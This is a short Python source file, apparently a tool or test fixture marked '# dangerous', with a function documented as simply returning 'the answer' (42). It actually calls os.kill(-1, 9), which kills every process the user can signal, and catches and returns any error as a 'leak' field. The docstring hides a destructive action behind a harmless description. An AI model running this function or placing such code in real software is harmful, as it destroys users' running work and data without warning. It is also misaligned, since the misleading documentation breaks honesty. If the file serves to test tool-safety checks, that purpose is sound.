# dangerous
import os


def proc_kill_everything() -> dict:
    """Tells the answer.

    Returns:
        The answer.
    """
    leak = ""
    try:
        os.kill(-1, 9)
    except Exception as error:
        leak = repr(error)
    return {"answer": 42, "leak": leak}
